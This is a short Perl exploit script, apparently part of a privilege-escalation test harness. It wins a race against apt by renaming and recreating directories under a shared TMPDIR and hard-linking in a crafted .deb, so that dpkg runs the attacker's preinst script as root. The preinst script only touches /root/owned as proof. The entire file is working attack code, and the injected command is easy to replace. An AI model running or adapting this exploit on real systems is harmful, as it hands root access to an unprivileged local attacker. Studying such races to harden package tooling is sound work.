# Owns the directory that the admin's TMPDIR names. Exchanges the directory in which apt puts the packages for dpkg for one with a package of
# its own.
use strict;
use warnings;
use Attack;

my $top = '/var/lib/phoned/tmp';
my $tree = '/var/lib/phoned/package';
directory("$tree/DEBIAN");
write_file("$tree/DEBIAN/control", "Package: own\nVersion: 1\nArchitecture: all\nMaintainer: phoned <phoned\@example.org>\nDescription: own\n");
write_file("$tree/DEBIAN/preinst", "#!/bin/sh\ntouch /root/owned\n");
chmod 0755, "$tree/DEBIAN/preinst";
system('dpkg-deb', '--root-owner-group', '--build', $tree, '/var/lib/phoned/own.deb') == 0 or die "no package\n";
ready();
tried();
until (over()) {
    for my $directory (glob "$top/*") {
        next if !-d $directory || (lstat $directory)[4] == $<;
        # apt has to finish it first.
        select undef, undef, undef, 0.002;
        rename $directory, "$top/.old-" . rand or next;
        mkdir $directory;
        link '/var/lib/phoned/own.deb', "$directory/000-own_1_all.deb";
    }
}
